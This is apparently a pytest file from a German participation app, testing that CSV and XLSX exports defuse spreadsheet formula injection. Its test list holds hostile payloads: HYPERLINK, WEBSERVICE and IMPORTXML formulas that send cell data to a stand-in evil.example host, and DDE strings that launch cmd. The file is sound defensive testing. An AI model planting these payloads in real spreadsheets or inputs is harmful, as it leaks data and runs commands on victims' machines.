"""No text typed into the app becomes a formula in a CSV or XLSX export, and it stays readable.

Hostile texts go in where people type: ideas, nicknames, Handlungsfeld names and every box
of a measure sheet. Read back with real readers, no CSV cell may start a formula and no
XLSX cell may be one, while each text is still exactly what was typed.
"""

import csv
import io

import pytest
from openpyxl import load_workbook

from participation.exports.cells import FORMULA_STARTS, csv_text, is_formula_like, restore_csv_text, xlsx_text
from participation.exports.csv_file import workshop_csv
from participation.exports.snapshot import workshop_snapshot
from participation.exports.texts import export_texts
from participation.exports.xlsx_file import measures_xlsx, workshop_xlsx

from helpers import make_participant, post_idea

HOSTILE_FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1;"Klick mich")',
    "=HYPERLINK(CONCATENATE(\"https://evil.example/?\";A2);\"Details\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "@cmd|'/c calc'!_xlbgnm.A1",
    "+1+1",
    "-2+3",
    "\t=1",
    "\r=1",
    "\n=1+2",
    "  =1+1",
    "=1+1",
    "=SUMME(A1:A9)",
    '=IMPORTXML("https://evil.example/";"//a")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "=2*3\nzweite Zeile",
    "'=1+1",
    "''=1+1",
    "+49 4832 1234",
    "-",
    "@",
    "#N/A",
    "#DIV/0!",
    '"=1";=2',
    "＝1+1 (breites Gleichheitszeichen)",
]

DANGEROUS_START = tuple(FORMULA_STARTS)


def stored(text):
    """What the idea form keeps of ``text`` (control characters out, trimmed)."""
    from participation.ideas.services import clean_text

    return clean_text(text)


@pytest.mark.parametrize("text", HOSTILE_FORMULAS + ["", "Idee", "'Zitat'", "'", "' =1", "A=1", "'-'"])
def test_csv_text_neutralises_and_restores_exactly(text):
    cell = csv_text(text)
    assert not cell.lstrip(" \n").startswith(DANGEROUS_START)
    assert restore_csv_text(cell) == text
    assert (cell != text) == is_formula_like(text.lstrip("'"))


def test_only_formula_like_texts_are_changed():
    for harmless in ("Idee", "Bus 2+3", "E-Mail", "Schule@Dorf", "'Zitat'", "1-2 Busse"):
        assert csv_text(harmless) == harmless and restore_csv_text(harmless) == harmless
    assert csv_text(None) == ""
    assert xlsx_text("vor\x00\x1bnach\ttab\nzeile") == "vornach\ttab\nzeile"


@pytest.fixture
def hostile(workshop):
    """A workshop whose ideas, nicknames, fields and measure are all hostile texts."""
    from participation.database import write_transaction
    from participation.measures.models import SHEET_TEXT_FIELDS, Measure
    from participation.fields.services import move_idea
    from participation.workshops.structure import add_field

    fields = [add_field(workshop, text) for text in HOSTILE_FORMULAS if text.strip()]
    nicknames = []
    for number, text in enumerate(HOSTILE_FORMULAS):
        person = make_participant(workshop, f"person{number:02d}-")
        with write_transaction():
            person.nickname = text[:40] or None  # raw, with tabs and carriage returns
        nicknames.append(person.nickname)
        if stored(text):
            idea = post_idea(workshop, person, text, question=number % 3)
            move_idea(idea, fields[number % len(fields)])
    with write_transaction() as session:
        measure = Measure(workshop_id=workshop.id, title='=HYPERLINK("https://evil.example")', priority="mittel")
        for name, text in zip(SHEET_TEXT_FIELDS, HOSTILE_FORMULAS):
            setattr(measure, name, text)
        session.add(measure)
    return {
        "ideas": [stored(text) for text in HOSTILE_FORMULAS if stored(text)],
        "nicknames": [name for name in nicknames if name],
        "fields": [field.name for field in fields],
        "measure": [measure.title, *(getattr(measure, name) for name in SHEET_TEXT_FIELDS)],
    }


@pytest.mark.parametrize("delimiter", [";", ","])
def test_no_csv_cell_starts_a_formula(workshop, hostile, delimiter):
    texts = export_texts()
    content = workshop_csv(workshop_snapshot(workshop), texts, delimiter=delimiter).decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(content, newline=""), delimiter=delimiter))
    assert len(rows) == len(hostile["ideas"])
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" \n").startswith(DANGEROUS_START), cell
    columns = {heading: index for index, heading in enumerate(header)}
    restored = lambda name: [restore_csv_text(row[columns[texts[name]]]) for row in rows]  # noqa: E731
    assert sorted(restored("text")) == sorted(hostile["ideas"])
    assert set(restored("nickname")) <= set(hostile["nicknames"])
    assert set(restored("field")) <= set(hostile["fields"])
    assert "'=HYPERLINK(" in content and "'\t=1" in content and "'@SUM(1)" in content


def cells_of(book):
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_no_xlsx_cell_is_a_formula(workshop, hostile):
    texts = export_texts()
    book = load_workbook(io.BytesIO(workshop_xlsx(workshop_snapshot(workshop), texts)))
    cells = [cell for cell in cells_of(book) if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    values = {cell.value for cell in cells}
    assert set(hostile["ideas"]) <= values
    assert {xlsx_text(name) for name in hostile["nicknames"]} <= values
    assert set(hostile["fields"]) <= values
    for cell in cells:
        if isinstance(cell.value, str) and is_formula_like(cell.value):
            assert cell.data_type == "s" and cell.quotePrefix, cell.value  # stays text when edited
    assert next(c for c in cells if c.value == "#N/A").data_type == "s"  # text, not an error value


def test_no_measure_cell_is_a_formula(workshop, hostile):
    book = load_workbook(io.BytesIO(measures_xlsx(workshop_snapshot(workshop), export_texts())))
    cells = [cell for cell in cells_of(book) if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    values = {cell.value for cell in cells}
    assert {xlsx_text(text) for text in hostile["measure"] if text} <= values
    assert "\t=1" in values and "\r=1" in values  # typed exactly so, shown exactly so
